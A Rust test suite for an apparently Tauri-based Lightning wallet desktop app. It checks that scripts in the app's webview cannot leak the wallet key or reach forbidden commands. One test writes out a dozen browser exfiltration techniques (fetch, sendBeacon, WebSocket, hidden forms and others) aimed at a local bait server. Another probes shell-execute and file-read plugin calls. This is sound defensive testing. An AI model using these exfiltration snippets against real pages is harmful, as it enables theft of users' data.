//! The window's page in a stranger's hands: scripts in it call the app as they like, and get at nothing outside.

mod attempts;

use std::collections::BTreeSet;
use std::fs;
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use satchime_simulator::{Options, SimWallet, Simulator, sat};
use satchime_tests::ctl::remove_all;
use satchime_tests::desktop::{Notifications, Question};
use satchime_tests::program::Program;
use satchime_tests::webdriver::Window;
use serde_json::{Value, json};
use tempfile::TempDir;

/// Satchime on one wallet, with its window open.
struct Opened {
    simulator: Simulator,
    shop: SimWallet,
    home: TempDir,
    window: Window,
}

impl Opened {
    async fn new() -> Self {
        let simulator = Simulator::start(Options::default()).await.unwrap();
        let shop = simulator.create_wallet("Shop", 100);
        let home = tempfile::tempdir().unwrap();
        let line = ["wallet", "add", "--server", &simulator.url(), "--name", "Shop"];
        let adding = Program::satchimectl().args(line).data_dir(home.path()).input(&shop.inkey);
        adding.finish().await.expect_success();
        let window = Window::open(&Program::satchime().args(["--show"]).data_dir(home.path())).await;
        window.element("[data-testid=wallet][data-state=live]").await;
        Self { simulator, shop, home, window }
    }

    async fn close(self) {
        assert!(!self.window.output().contains(&self.shop.inkey), "the output contains the key");
        self.window.close().await;
        Notifications::close_all().await;
        remove_all(self.home.path()).await;
    }
}

/// A server that a stranger chose, which nobody may call.
struct Bait(TcpListener);

impl Bait {
    fn new() -> Self {
        Self(TcpListener::bind("127.0.0.1:0").unwrap())
    }

    fn address(&self) -> String {
        self.0.local_addr().unwrap().to_string()
    }

    /// Whoever called before stands in line before us.
    fn was_not_called(&self) {
        let own = TcpStream::connect(self.0.local_addr().unwrap()).unwrap();
        let (_, first) = self.0.accept().unwrap();
        assert_eq!(first, own.local_addr().unwrap(), "somebody called");
    }
}

/// By the mark that the page carries for tests.
fn id(name: &str) -> String {
    format!("[data-testid={name}]")
}

/// Every command there is, as the page's own bindings name them.
fn commands() -> BTreeSet<String> {
    let bindings = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ui/src/lib/ipc/bindings.ts");
    let text = fs::read_to_string(bindings).unwrap();
    let lines = text.lines().filter(|line| line.contains(": (") && line.starts_with(char::is_whitespace));
    let calls = lines.filter_map(|line| line.split_once("__TAURI_INVOKE").map(|(_, call)| call));
    calls.filter_map(|call| call.split('"').nth(1)).map(str::to_owned).collect()
}

fn outcome(answer: Result<Value, Value>) -> String {
    match answer {
        Ok(answer) => format!("ok: {answer}"),
        Err(refused) => match refused["problem"]["code"].as_str() {
            Some(code) => code.to_owned(),
            None => refused.as_str().unwrap_or_default().to_owned(),
        },
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_script_in_the_page_asks_no_key_and_no_call_goes_where_it_wants() {
    let opened = Opened::new().await;
    let (window, bait) = (&opened.window, Bait::new());
    let page = window.element("[data-testid=wallet]").await;
    assert!(window.text_of(&page).await.is_some());
    let known =
        window.execute("return document.querySelector('[data-wallet-id]').dataset.walletId", &[]).await;
    let wallet = known.as_str().unwrap();
    let attempts = attempts::on_every_command(wallet, &bait.address());
    let tried: BTreeSet<String> = attempts.keys().map(|command| (*command).to_owned()).collect();
    assert_eq!(tried, commands(), "every command is tried");
    for (command, tries) in attempts {
        for (arguments, expected) in tries {
            let answering = async {
                if expected == "declined" {
                    Question::decline().await
                }
            };
            let (answer, ()) = tokio::join!(window.invoke(command, arguments.clone()), answering);
            let outcome = outcome(answer);
            assert!(outcome.contains(expected), "{command} {arguments}: {outcome}, not {expected}");
            assert!(!outcome.contains(&opened.shop.inkey), "{command} tells the key");
        }
    }
    bait.was_not_called();
    window.invoke("leave_demo", json!({})).await.unwrap();
    window.element_with_text("[data-testid=wallet][data-state=live]", "Shop").await;
    opened.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_page_gets_at_nothing_of_tauris_own() {
    let opened = Opened::new().await;
    for command in [
        "plugin:event|emit",
        "plugin:event|emit_to",
        "plugin:window|close",
        "plugin:window|create",
        "plugin:webview|create_webview_window",
        "plugin:webview|print",
        "plugin:app|version",
        "plugin:path|resolve_directory",
        "plugin:resources|close",
        "plugin:image|from_path",
        "plugin:menu|new",
        "plugin:tray|new",
        "plugin:fs|read_file",
        "plugin:shell|execute",
        "plugin:single-instance|destroy",
        "copy_text",
        "eval",
    ] {
        let refused = outcome(opened.window.invoke(command, json!({})).await);
        assert!(refused.contains("not allowed") || refused.contains("not found"), "{command}: {refused}");
    }
    opened.close().await;
}

/// Ways out of a page, each ending when it has failed or been ignored.
const WAYS_OUT: [(&str, &str); 12] = [
    ("fetch", "await fetch(url, { mode: 'no-cors' })"),
    ("beacon", "navigator.sendBeacon(url, 'secret')"),
    ("xhr", "const ask = new XMLHttpRequest(); ask.open('GET', url, false); ask.send()"),
    ("picture", "await loaded(Object.assign(new Image(), { src: url }))"),
    ("frame", "await added('iframe', { src: url })"),
    ("script", "await added('script', { src: url })"),
    ("style", "await added('link', { rel: 'stylesheet', href: url })"),
    ("socket", "await loaded(new WebSocket(url.replace('http', 'ws')))"),
    ("events", "await loaded(new EventSource(url))"),
    ("form", "const form = await added('form', { action: url }); form.submit()"),
    ("window", "window.open(url)"),
    ("navigation", "location.href = url"),
];

#[tokio::test(flavor = "multi_thread")]
async fn what_a_script_in_the_page_reads_stays_there() {
    let opened = Opened::new().await;
    let (window, bait) = (&opened.window, Bait::new());
    let url = format!("http://{}/secret", bait.address());
    let before = window.execute("return location.href", &[]).await;
    for (name, way) in WAYS_OUT {
        let script = format!(
            "const url = arguments[0];
            const frame = () =>
                new Promise((next) => requestAnimationFrame(() => requestAnimationFrame(next)));
            const loaded = (what) => Promise.race([
                new Promise((done) => {{
                    for (const event of ['load', 'open', 'error']) what.addEventListener(event, done);
                }}),
                frame(),
            ]).then(() => what);
            const added = (tag, with_) => {{
                const made = Object.assign(document.createElement(tag), with_);
                document.body.append(made);
                return loaded(made);
            }};
            const done = arguments[1];
            (async () => {{ {way} }})().catch(() => {{}}).then(frame).then(() => done('tried'));"
        );
        assert_eq!(window.execute_async(&script, &[json!(url)]).await, "tried", "{name}");
        assert_eq!(window.execute("return location.href", &[]).await, before, "{name}");
    }
    bait.was_not_called();
    let own =
        "fetch('ipc://localhost/no').then((answer) => arguments[0](answer.status), () => arguments[0](0))";
    assert_ne!(window.execute_async(own, &[]).await, 0, "the way to the app is open");
    opened.close().await;
}

/// What the clipboard holds in this form; as `TARGETS`, the forms it has.
async fn clipboard(form: &str) -> String {
    let asking = ["-selection", "clipboard", "-o", "-t", form];
    Program::at("xclip").args(asking).finish().await.expect_success().stdout
}

#[tokio::test(flavor = "multi_thread")]
async fn a_copied_preimage_stays_out_of_clipboard_histories() {
    const HINT: &str = "x-kde-passwordManagerHint";
    let opened = Opened::new().await;
    let paid = opened.simulator.send(&opened.shop, sat(21).memo("Beans"));
    let window = &opened.window;
    window.element_with_text(&id("payment-memo"), "Beans").await;
    window.click(&id("payment")).await;
    window.click(&id("copy-hash")).await;
    window.element_with_text("[role=status]", "Copied payment hash").await;
    assert_eq!(clipboard("UTF8_STRING").await, paid.payment_hash);
    assert!(!clipboard("TARGETS").await.contains(HINT));
    window.click(&id("copy-preimage")).await;
    window.element_with_text("[role=status]", "Copied preimage").await;
    assert_eq!(clipboard("UTF8_STRING").await, paid.preimage.unwrap());
    assert_eq!(clipboard(HINT).await, "secret");
    opened.close().await;
}

/// With a click the webview lets any page copy; no click, no copy.
#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_page_copies_nothing_by_itself() {
    let opened = Opened::new().await;
    let paid = opened.simulator.receive(&opened.shop, sat(21).memo("Beans"));
    let window = &opened.window;
    window.element_with_text(&id("payment-memo"), "Beans").await;
    let shown =
        window.execute("return document.querySelector('[data-wallet-id]').dataset.walletId", &[]).await;
    let payment = json!({ "wallet_id": shown, "checking_id": paid.checking_id });
    let copied = window.invoke("copy_payment", json!({ "payment": payment, "part": "hash" })).await;
    assert_eq!(copied, Ok(Value::Null));
    let script = "
        const done = arguments[0];
        const input = document.createElement('textarea');
        input.value = 'free text';
        document.body.append(input);
        input.select();
        const copied = document.execCommand('copy');
        navigator.clipboard.writeText('free text').then(() => done('written'), () => done(copied));";
    assert_eq!(window.execute_async(script, &[]).await, false);
    assert_eq!(clipboard("UTF8_STRING").await, paid.payment_hash);
    opened.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_webview_keeps_is_for_the_person_alone() {
    let opened = Opened::new().await;
    let caches = std::env::var_os("XDG_CACHE_HOME").unwrap();
    let folder = Path::new(&caches).join("app.satchime.desktop/webview");
    assert_eq!(fs::metadata(folder).unwrap().permissions().mode() & 0o777, 0o700);
    opened.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn removal_is_asked_outside_of_the_page() {
    let opened = Opened::new().await;
    let window = &opened.window;
    window.click(&id("wallet-open")).await;
    window.picture("remove-wallet").await;
    window.click(&id("remove-wallet")).await;
    Question::picture("question-remove").await;
    // Over the page, nothing in it can agree.
    let page = window.execute("return document.body.innerText.includes('removed from this computer')", &[]);
    assert_eq!(page.await, false);
    assert!(Question::is_open().await);
    Question::decline().await;
    window.element(&id("wallet-page")).await;
    window.click(&id("remove-wallet")).await;
    Question::agree().await;
    window.element(&id("welcome")).await;
    opened.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn going_without_encryption_is_asked_outside_of_the_page() {
    let opened = Opened::new().await;
    let window = &opened.window;
    window.click(&id("add-wallet")).await;
    window.fill(&id("add-address"), "umbrel.local:3007").await;
    window.fill(&id("add-key"), "0123456789abcdef0123456789abcdef").await;
    window.picture("add-typed").await;
    window.click(&id("add-check")).await;
    Question::picture("question-not-encrypted").await;
    Question::decline().await;
    window.element("[data-testid=add][data-phase=typing]").await;
    assert!(window.find(&id("add-problem")).await.is_none(), "they know that they said no");
    opened.close().await;
}
